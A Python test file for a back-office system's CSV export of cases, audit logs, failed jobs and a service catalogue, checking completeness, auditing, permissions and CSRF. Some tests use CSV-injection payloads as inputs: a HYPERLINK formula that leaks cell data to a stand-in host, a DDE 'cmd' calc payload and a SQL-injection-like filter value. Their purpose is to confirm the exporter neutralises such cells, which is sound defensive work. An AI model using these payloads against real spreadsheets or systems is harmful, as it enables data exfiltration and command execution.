"""Every list can be filtered and exported whole (D25): all rows, harmless cells, audited, only for whom it is open."""

import csv
import io
from datetime import timedelta

import asyncpg
import httpx
import pytest

from backoffice.exporting import csv_line
from backoffice.pages import jobs as jobs_page
from backoffice.services import FailedJob
from domain import catalogue
from tests.backoffice import city
from tests.backoffice.conftest import Browser, Jobs


def sheet_of(answer: httpx.Response) -> list[list[str]]:
    assert answer.status_code == 200 and answer.content.startswith(b"\xef\xbb\xbf"), answer.text
    assert answer.headers["content-disposition"].startswith("attachment; ")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["cache-control"] == "no-store"
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


async def exported(owner: asyncpg.Connection) -> list[str]:
    """The exports in the audit trail, each as `action by:name rows:n`."""
    rows = await owner.fetch(
        "SELECT action || ' by:' || actor_name || ' rows:' || (detail ->> 'rows') AS said FROM audit_event"
        " WHERE action LIKE '%.exported' ORDER BY at, event_id"
    )
    return [row["said"] for row in rows]


async def events(owner: asyncpg.Connection, clock: city.Clock, count: int, **changed: str) -> None:
    """Events of yesterday, all at one instant, of a `staff:1` who is nobody here."""
    values = {"actor_name": "甲", "action": "test.done", "detail": "{}"} | changed
    await owner.execute(
        "INSERT INTO audit_event (event_id, at, actor, actor_name, channel, action, subject, outcome, detail)"
        f" SELECT n, $1, 'staff:1', $2, 'backoffice', $3, 'test:' || n, 'done', $4 FROM generate_series(1, {count}) n",
        clock.now - timedelta(days=1),
        values["actor_name"],
        values["action"],
        values["detail"],
    )


def failed_job(job_id: int, clock: city.Clock, **changed: str) -> FailedJob:
    """The higher the number, the later it failed."""
    values = {"kind": "case.decided", "subject": "20261123C200001", "error": "CarrierTimeout"} | changed
    return FailedJob(job_id=job_id, attempts=3, failed_at=clock.now + timedelta(seconds=job_id), **values)


async def test_the_queue_holds_all_filtered_rows(signed_in, desk_city, clock) -> None:
    numbers = await city.many_cases(desk_city, clock, 130)
    browser = await signed_in("zhao.gang")
    page = await browser.open("/backoffice/cases?state=completed")
    rows = sheet_of(await browser.submit(page, "/backoffice/cases/export?state=completed"))
    assert rows[0][0] == "办件编号" and [row[0] for row in rows[1:-1]] == numbers[1:]
    cents = sum(int(row[3].replace(".", "")) for row in rows[1:-1])
    assert rows[-1] == ["合计", "129件", "", f"{cents // 100}.{cents % 100:02d}"]
    assert all("张伟" not in cell for row in rows for cell in row)
    assert await exported(desk_city) == ["case.exported by:赵刚 rows:129"]


async def test_the_audit_trail_holds_all_filtered_rows(signed_in, desk_city, clock) -> None:
    await events(desk_city, clock, 230)
    browser = await signed_in("zheng.shenji")
    page = await browser.open("/backoffice/audit?action=test.&outcome=done")
    assert "共 <strong>230</strong> 条记录" in page.text and "本页 50 条" in page.text
    rows = sheet_of(await browser.submit(page, "/backoffice/audit/export?action=test.&outcome=done"))
    assert rows[0] == ["时间", "人员", "人员编号", "渠道", "操作", "操作代码", "对象", "结果", "详情"]
    assert [row[6] for row in rows[1:-1]] == [f"test:{number}" for number in range(230, 0, -1)]
    assert rows[1][:6] == ["2026-11-22 09:00:00", "甲", "staff:1", "业务平台", "test.done", "test.done"]
    assert rows[-1] == ["合计", "230条"]
    assert await exported(desk_city) == ["audit.exported by:郑审计 rows:230"]
    trail = await browser.open("/backoffice/audit?action=audit.exported")
    assert "导出审计日志" in trail.text and "action=test. outcome=done" in trail.text


async def test_an_export_of_the_audit_trail_does_not_hold_itself(signed_in, desk_city) -> None:
    browser = await signed_in("zheng.shenji")
    for before in (0, 1):
        rows = sheet_of(await browser.post("/backoffice/audit/export?action=audit.exported", browser.csrf))
        assert rows[-1] == ["合计", f"{before}条"] and len(rows) == before + 2
    assert len(await exported(desk_city)) == 2


async def test_the_failed_jobs_hold_all_filtered_rows(signed_in, jobs: Jobs, clock, desk_city) -> None:
    jobs.held += [failed_job(number, clock) for number in range(1, 121)]
    jobs.held += [failed_job(number, clock, kind="payment.prepared") for number in range(121, 124)]
    browser = await signed_in("zhou.xitong")
    page = await browser.open("/backoffice/jobs?kind=case.decided")
    assert "共 <strong>120</strong> 个失败任务" in page.text and "本页 50 个" in page.text
    rows = sheet_of(await browser.submit(page, "/backoffice/jobs/export?kind=case.decided"))
    assert [row[0] for row in rows[1:-1]] == [str(number) for number in range(120, 0, -1)]
    assert rows[1][1:] == [
        "审核结果通知",
        "case.decided",
        "20261123C200001",
        "2026-11-23 09:02:00",
        "3",
        "CarrierTimeout",
    ]
    assert rows[-1] == ["合计", "120个"] and jobs.retried == []
    assert await exported(desk_city) == ["job.exported by:周系统 rows:120"]


async def test_the_failed_jobs_have_pages(signed_in, jobs: Jobs, clock) -> None:
    jobs.held += [failed_job(number, clock) for number in range(1, 61)]
    browser = await signed_in("zhou.xitong")
    page = await browser.open("/backoffice/jobs")
    assert '<td class="mono">60</td>' in page.text and '<td class="mono">10</td>' not in page.text
    following = page.text.split('rel="next" href="')[1].split('"')[0].replace("&amp;", "&")
    jobs.held.append(failed_job(61, clock))
    page = await browser.open(following)
    assert '<td class="mono">10</td>' in page.text and '<td class="mono">11</td>' not in page.text
    assert "共 <strong>61</strong> 个失败任务" in page.text and "本页 10 个" in page.text


async def test_more_failed_jobs_than_are_read_is_said(signed_in, jobs: Jobs, clock) -> None:
    jobs.held += [failed_job(number, clock) for number in range(jobs_page.READ_MAX + 1)]
    browser = await signed_in("zhou.xitong")
    page = await browser.open("/backoffice/jobs")
    assert "只统计最近失败的 10,000 个" in page.text
    rows = sheet_of(await browser.submit(page, "/backoffice/jobs/export"))
    assert rows[-1] == ["合计", "10000个", "只含最近失败的10000个"] and len(rows) == jobs_page.READ_MAX + 2


@pytest.mark.parametrize(
    ("query", "meant"),
    [
        ("", lambda item: True),
        ("area=loans", lambda item: item.area == "loans"),
        ("audience=employer", lambda item: "employer" in item.audience),
        ("channel=kiosk", lambda item: "kiosk" in item.channels),
        ("open=yes", lambda item: item.open),
        ("area=collection&open=no", lambda item: item.area == "collection" and not item.open),
    ],
)
async def test_the_catalogue_holds_all_filtered_items(signed_in, desk_city, query: str, meant) -> None:
    codes = [item.code for item in catalogue.items() if meant(item)]
    browser = await signed_in("li.min")
    page = await browser.open(f"/backoffice/catalogue?{query}")
    assert f"共 <strong>{len(codes)}</strong> 项" in page.text
    assert [code for item in catalogue.items() if f">{(code := item.code)}</td>" in page.text] == codes
    target = "/backoffice/catalogue/export" + (f"?{query}" if query else "")
    rows = sheet_of(await browser.submit(page, target))
    assert [row[0] for row in rows[1:-1]] == codes and rows[-1] == ["合计", f"{len(codes)}项"]
    assert await exported(desk_city) == [f"catalogue.exported by:李敏 rows:{len(codes)}"]


async def test_nothing_that_fits_is_no_error(signed_in, desk_city) -> None:
    browser = await signed_in("zheng.shenji")
    page = await browser.open("/backoffice/catalogue?area=housing_funds&open=yes")
    assert page.status_code == 200 and "没有符合条件的事项" in page.text and "导出全部结果" not in page.text
    rows = sheet_of(await browser.post("/backoffice/audit/export?actor=nobody", browser.csrf))
    assert len(rows) == 2 and rows[1] == ["合计", "0条"]


async def test_formulas_in_the_audit_trail_are_made_harmless(signed_in, desk_city, clock) -> None:
    formula = '=HYPERLINK("http://example.invalid/"&A1)'
    await events(desk_city, clock, 1, actor_name=formula, action="@SUM(A1)", detail='{"reason": "x\\n=1"}')
    browser = await signed_in("zheng.shenji")
    rows = sheet_of(await browser.post("/backoffice/audit/export?action=@SUM", browser.csrf))
    assert rows[1][1] == f"'{formula}" and rows[1][4] == rows[1][5] == "'@SUM(A1)" and rows[1][8] == "原因 x\n=1"


async def test_formulas_in_failed_jobs_are_made_harmless(signed_in, jobs: Jobs, clock) -> None:
    jobs.held.append(failed_job(7, clock, kind="=1+1", subject="-2", error="+cmd|' /C calc'!A0"))
    browser = await signed_in("zhou.xitong")
    rows = sheet_of(await browser.post("/backoffice/jobs/export", browser.csrf))
    assert rows[1][1:4] == ["'=1+1", "'=1+1", "'-2"] and rows[1][6] == "'+cmd|' /C calc'!A0"


@pytest.mark.parametrize("cell", ["=1+1", "+86", "-2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
def test_a_cell_cannot_become_a_formula(cell: str) -> None:
    read = next(csv.reader(io.StringIO(csv_line((cell,)).decode(), newline="")))
    assert read == [f"'{cell}"]


def test_an_ordinary_cell_stays_as_it_is() -> None:
    assert csv_line(("2000.00", "张*", 'a"b', "一,二")) == '2000.00,张*,"a""b","一,二"\r\n'.encode()


async def refused_pages(owner: asyncpg.Connection) -> list[str]:
    rows = await owner.fetch("SELECT subject FROM audit_event WHERE action = 'page.refused' AND outcome = 'refused'")
    return [row["subject"] for row in rows]


@pytest.mark.parametrize(
    ("login", "path"),
    [
        ("li.min", "/backoffice/cases/export"),
        ("zhao.gang", "/backoffice/audit/export"),
        ("zhou.xitong", "/backoffice/audit/export"),
        ("zheng.shenji", "/backoffice/jobs/export"),
        ("sun.cai", "/backoffice/jobs/export"),
    ],
)
async def test_who_may_not_export_gets_nothing(signed_in, desk_city, clock, login: str, path: str) -> None:
    await city.apply("zhang", clock.now)
    browser: Browser = await signed_in(login)
    assert "导出全部结果" not in (await browser.open(path.removesuffix("/export"))).text
    await desk_city.execute("DELETE FROM audit_event")
    answer = await browser.post(path, browser.csrf)
    assert answer.status_code == 403 and "text/html" in answer.headers["content-type"]
    assert await refused_pages(desk_city) == [f"page:{path}"] and await exported(desk_city) == []


WHO = {"cases": "zhao.gang", "audit": "zheng.shenji", "jobs": "zhou.xitong", "catalogue": "li.min"}


@pytest.mark.parametrize("name", WHO)
async def test_an_export_needs_the_token_of_the_page(signed_in, desk_city, name: str) -> None:
    browser, path = await signed_in(WHO[name]), f"/backoffice/{name}/export"
    answer = await browser.post(path, {"csrf": "0" * 64})
    assert answer.status_code == 403 and "页面已过期" in answer.text
    assert await refused_pages(desk_city) == [f"page:{path}"] and await exported(desk_city) == []
    assert (await browser.open(path)).status_code == 404, "a link exports nothing"


@pytest.mark.parametrize("name", WHO)
async def test_a_stranger_is_sent_to_the_login(new_browser, desk_city, name: str) -> None:
    answer = await new_browser().post(f"/backoffice/{name}/export", {"csrf": "0" * 64}, follow_redirects=False)
    assert answer.status_code == 303 and answer.headers["location"].startswith("/backoffice/login")
    assert await exported(desk_city) == []


@pytest.mark.parametrize(
    ("name", "query", "told"),
    [
        ("cases", "state=burning", "所选条件不存在"),
        ("cases", "submitted_from=2026-11-24&submitted_to=2026-11-23", "开始日期晚于结束日期"),
        ("audit", "outcome=maybe", "所选条件不存在"),
        ("audit", "at_from=2026-11-31", "日期应写作"),
        ("audit", "at_from=2026-11-24&at_to=2026-11-23", "开始日期晚于结束日期"),
        ("audit", "actor=a%00b", "查询条件过长或含有无法识别的字符"),
        ("audit", "subject=" + "x" * 81, "查询条件过长或含有无法识别的字符"),
        ("jobs", "kind=%27%3BDROP", "所选条件不存在"),
        ("catalogue", "area=space", "所选条件不存在"),
        ("catalogue", "audience=person&channel=pigeon", "所选条件不存在"),
        ("catalogue", "open=maybe", "所选条件不存在"),
    ],
)
async def test_wrong_filters_export_nothing(signed_in, desk_city, jobs: Jobs, clock, name: str, query: str, told: str):
    jobs.held.append(failed_job(7, clock))
    browser = await signed_in(WHO[name])
    page = await browser.open(f"/backoffice/{name}?{query}")
    assert page.status_code == 422 and told in page.text and "导出全部结果" not in page.text
    answer = await browser.post(f"/backoffice/{name}/export?{query}", browser.csrf)
    assert answer.status_code == 409 and told in answer.text and "text/html" in answer.headers["content-type"]
    assert await exported(desk_city) == []


async def test_a_malformed_place_in_the_failed_jobs_is_explained(signed_in, jobs: Jobs, clock) -> None:
    jobs.held.append(failed_job(7, clock))
    page = await (await signed_in("zhou.xitong")).open("/backoffice/jobs?pages=%21%21%21")
    assert page.status_code == 422 and "翻页位置无效" in page.text


async def test_every_export_is_named_in_the_audit_page(signed_in, desk_city, clock) -> None:
    for name, login in WHO.items():
        browser = await signed_in(login)
        sheet_of(await browser.post(f"/backoffice/{name}/export", browser.csrf))
    said = {entry.split(" ")[0] for entry in await exported(desk_city)}
    assert said == {"case.exported", "audit.exported", "job.exported", "catalogue.exported"}
    clock.pass_(minutes=1)  # a code opens once
    page = await (await signed_in("zheng.shenji")).open("/backoffice/audit")
    for name in ("导出队列", "导出审计日志", "导出失败任务", "导出服务事项"):
        assert name in page.text
